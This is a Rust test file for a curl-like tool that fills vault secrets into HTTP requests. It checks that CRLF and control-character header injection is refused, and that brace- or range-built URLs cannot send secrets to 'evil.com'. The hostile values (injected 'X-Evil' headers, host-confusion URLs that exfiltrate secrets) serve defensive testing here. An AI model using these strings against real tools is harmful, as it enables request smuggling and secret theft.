//! Line breaks and other control characters that would add a line to a request, and references that are put together
//! from pieces: by braces, by files, by two options.

use subrosa_testkit::{CaptureOptions, Captured};

use crate::home::{Run, text};
use crate::stage::{Stage, VALUE};

/// What ends a line for some parser or other, and one that ends a string.
const BREAKS: [&str; 6] = ["\r\n", "\n", "\r", "\r\n ", "\u{b}", "\u{1b}"];

/// No line of a request but those that the command asked for, and nothing that is no text in its head.
#[track_caller]
fn one_request(requests: &[Captured], run: &Run) {
    assert_eq!(requests.len(), 1, "{run}");
    let head = &requests[0].raw_head;
    let lines = head.split(|byte| *byte == b'\n').filter(|line| !line.is_empty());
    for line in lines {
        let line =
            line.strip_suffix(b"\r").unwrap_or_else(|| panic!("a bare line feed: {:?} {run}", requests[0]));
        assert!(!line.iter().any(|byte| byte.is_ascii_control()), "{:?} {run}", requests[0]);
        assert!(!line.to_ascii_lowercase().starts_with(b"x-evil"), "{:?} {run}", requests[0]);
    }
}

/// Refused with its code, and the server did not notice.
#[track_caller]
fn refused(stage: &Stage, run: Run, code: i32) {
    assert_eq!(run.code, code, "{run}");
    assert!(run.err.starts_with("error: ") && !run.shows(VALUE), "{run}");
    assert!(!run.err.contains('\r') && !run.err.contains('\u{1b}'), "{run}");
    stage.untouched();
}

#[test]
fn hostile_e59_control_characters_that_stand_in_the_command() {
    let stage = Stage::new();
    stage.allowed("key");
    for end in BREAKS {
        let evil = format!("a{end}X-Evil: 1");
        for (flag, prefix, code) in [
            ("-H", "X-Key: ", 100),
            ("-H", "X-Key", 100),
            ("-H", "X-Key;", 100),
            ("-H", "Host: ", 100),
            ("-H", "Content-Type: ", 100),
            ("-A", "", 100),
            ("-e", "", 100),
            ("-b", "session=", 100),
            ("--oauth2-bearer", "", 100),
            ("-r", "0-", 100),
            ("-X", "GET", 2),
            ("-X", "GET / HTTP/1.1", 2),
            ("--url-query", "+q=", 3),
        ] {
            let word = format!("{prefix}{evil}");
            refused(&stage, stage.send_here(&[flag, &word], "/"), code);
            refused(&stage, stage.send_here(&["-u", "me:<<vault:key>>", flag, &word], "/"), code);
            if flag != "-X" {
                refused(&stage, stage.send_here(&["-d", "body", flag, &word], "/"), code);
            }
        }
    }
}

#[test]
fn hostile_e59_control_characters_that_are_encoded() {
    for end in BREAKS {
        let evil = format!("a{end}X-Evil: 1");
        for words in [
            ["-u", &format!("me:{evil}")],
            ["-u", &format!("{evil}:me")],
            ["--url-query", &format!("q={evil}")],
            ["--url-query", &evil],
            ["--data-urlencode", &format!("q={evil}")],
            ["-d", &evil],
            ["--json", &evil],
        ] {
            let stage = Stage::new();
            let run = stage.send_here(&words, "/").ok();
            one_request(&stage.server.requests(), &run);
        }
    }
}

/// A file is where a NUL can come from.
#[test]
fn hostile_e59_control_characters_of_a_file_of_headers() {
    let stage = Stage::new();
    for evil in
        ["X-Key: a\0b", "X-Key\0: a", "X-Key: a\rX-Evil: 1", "X-Key : a", " X-Key: a", "X-Key: \u{7f}"]
    {
        stage.home.write("headers", evil);
        refused(&stage, stage.send_here(&["-H", "@headers"], "/"), 100);
    }
}

#[test]
fn hostile_e59_control_characters_of_secrets_in_every_place() {
    let stage = Stage::new();
    let origin = stage.origin();
    for end in BREAKS.into_iter().chain(["\0"]) {
        stage.home.store("key", format!("a{end}X-Evil: 1"), &["--host", &origin]);
        for words in [
            ["-H", "X-Key: <<vault:key>>"],
            ["-A", "<<vault:key>>"],
            ["-e", "<<vault:key>>"],
            ["-b", "session=<<vault:key>>"],
            ["-u", "me:<<vault:key>>"],
            ["-u", "<<vault:key>>:me"],
            ["-u", "<<vault:key>>"],
            ["--oauth2-bearer", "<<vault:key>>"],
            ["-r", "0-<<vault:key>>"],
            ["-d", "key=<<vault:key>>"],
        ] {
            let run = stage.send_here(&words, "/");
            assert!(!run.shows("X-Evil"), "{run}");
            refused(&stage, run, 100);
        }
        refused(&stage, stage.send_here(&["-X", "<<vault:key>>"], "/"), 2);
    }
    for end in BREAKS.into_iter().chain(["\0"]) {
        for (words, path) in [
            (&["--url-query", "q=<<vault:key>>"][..], "/"),
            (&["--url-query", "+q=<<vault:key>>"], "/"),
            (&["--data-urlencode", "q=<<vault:key>>"], "/"),
            (&["--json", "{\"q\": \"<<vault:key>>\"}"], "/"),
            (&[], "/?q=<<vault:key>>"),
            (&[], "/<<vault:key>>"),
        ] {
            let stage = Stage::new();
            stage.home.store("key", format!("a{end}X-Evil: 1"), &["--host", &stage.origin()]);
            let run = stage.send_here(words, path).ok();
            one_request(&stage.server.requests(), &run);
        }
    }
}

/// Braces come after references, so that none is made by them; what they make is judged like any other URL.
#[test]
fn hostile_e58_references_and_hosts_put_together_by_braces() {
    let stage = Stage::tls(&["api.example.com", "*.example.com", "evil.com", "*.evil.com"]);
    stage.home.store("a", VALUE, &["--host", "https://api.example.com"]);
    for url in [
        "https://api.example.com/?q=<<vault:{a,b}>>",
        "https://api.example.com/?q=<<vault:[a-b]>>",
        "https://api.example.com/?q={<<vault:a,x}>>",
        "https://api.example.com/?q={<<,x}vault:a>>",
        "https://api.example.com/?q=<{<vault:a>>,x}",
        "https://api.example.com/?q=<<vault:[a-a]>>",
        "https://evil.com/?q=<{<vault:a>>,x}",
        "https://{evil,api}.example.com/?q=<<vault:a>>",
        "https://api.example.com{,.evil.com}/?q=<<vault:a>>",
        "https://api.example.com{,:8443}/?q=<<vault:a>>",
        "https://{,api.example.com@}evil.com/?q=<<vault:a>>",
        "http{s,}://api.example.com/?q=<<vault:a>>",
        "https://api.example.com/{,../}?q=<<vault:b>>",
        "https://[a-z]vil.com/?q=<<vault:a>>",
    ] {
        let run = stage.send_routed(&[url]);
        assert!([3, 100].contains(&run.code) && !run.shows(VALUE), "{run}");
        stage.untouched();
    }
    let url = "https://api.example.com/?q=\\{{vault:a}}";
    assert_eq!(stage.send_routed(&[url]).code, 3);
    // a choice may hold whole references
    stage.send_routed(&["https://api.example.com/?q={<<vault:a>>,x}"]).ok();
    let targets: Vec<_> = stage.server.requests().into_iter().map(|request| request.target).collect();
    assert_eq!(targets, [format!("/?q={VALUE}"), "/?q=x".to_owned()]);
}

/// What a file holds was often written by somebody else.
#[test]
fn hostile_e58_references_of_a_file_wait_for_a_word_wherever_it_is_read() {
    let stage = Stage::new();
    stage.allowed("key");
    let file = stage.home.write("given", "X-Key: <<vault:key>>");
    let file = text(&file);
    for word in ["@given", "q@given", &format!("@{file}")] {
        for flag in ["-d", "--data-ascii", "--data-binary", "--json", "--data-urlencode", "-H"] {
            let reads = word.starts_with('@') || flag == "--data-urlencode";
            if reads {
                refused(&stage, stage.send_here(&[flag, word], "/").says("holds references"), 100);
            }
        }
    }
}

/// In a query a file is data.
#[test]
fn hostile_e58_references_of_a_file_are_text_in_a_query() {
    let stage = Stage::new();
    stage.allowed("key");
    stage.home.write("given", "<<vault:key>>");
    stage.send_here(&["--url-query", "@given", "--url-query", "q@given"], "/").ok();
    assert_eq!(stage.request().target, "/?%3C%3Cvault%3Akey%3E%3E&q=%3C%3Cvault%3Akey%3E%3E");
}

/// Neither of two files holds a reference, and both together do not make one.
#[test]
fn hostile_e58_references_of_two_files() {
    let stage = Stage::new();
    stage.allowed("key");
    let halves = [["{\"q\": \"<", "<vault:key>>\"}"], ["{\"q\": \"<<vaul", "t:key>>\"}"]];
    for [first, second] in halves {
        stage.home.write("first", first);
        stage.home.write("second", second);
        let before = stage.server.requests().len();
        stage.send_here(&["--json", "@first", "--json", "@second"], "/").ok();
        let seen = stage.server.requests().split_off(before);
        assert_eq!(seen[0].body, format!("{first}{second}").into_bytes());
    }
    // line breaks that -d takes out may not join one unseen
    stage.home.write("first", "q=<<vau\nlt:k\r\ney>>");
    refused_later(&stage, stage.send_here(&["-d", "@first"], "/").says("holds references"));
}

#[track_caller]
fn refused_later(stage: &Stage, run: Run) {
    assert_eq!(run.code, 100, "{run}");
    assert!(stage.server.requests().iter().all(|request| !request.contains(VALUE)), "{run}");
}

/// What is said to be text stays text in every place.
#[test]
fn hostile_e58_without_references_everything_is_text() {
    let stage = Stage::with(CaptureOptions::default());
    stage.allowed("key");
    for words in [
        ["-H", "X-Key: <<vault:key>>"],
        ["-A", "<<vault:key>>"],
        ["-e", "<<vault:key>>"],
        ["-b", "session=<<vault:key>>"],
        ["-u", "<<vault:key>>:<<vault:key>>"],
        ["--oauth2-bearer", "<<vault:key>>"],
        ["-d", "<<vault:key>>"],
        ["--json", "\"<<vault:key>>\""],
        ["--data-urlencode", "<<vault:key>>"],
        ["--data-urlencode", "q=<<vault:key>>"],
        ["--data-urlencode", "<<vault:key>>=q"],
        ["--url-query", "q=<<vault:key>>"],
        ["--url-query", "<<vault:key>>=q"],
        ["--url-query", "+<<vault:key>>"],
    ] {
        let before = stage.server.requests().len();
        let run = stage.send_here(&[&["--no-refs"], &words[..]].concat(), "/").ok();
        let seen = stage.server.requests().split_off(before);
        let basic = data_encoding::BASE64.encode(format!("{VALUE}:{VALUE}").as_bytes());
        assert!(seen.len() == 1 && !seen[0].contains(VALUE) && !seen[0].contains(&basic), "{seen:?} {run}");
    }
}
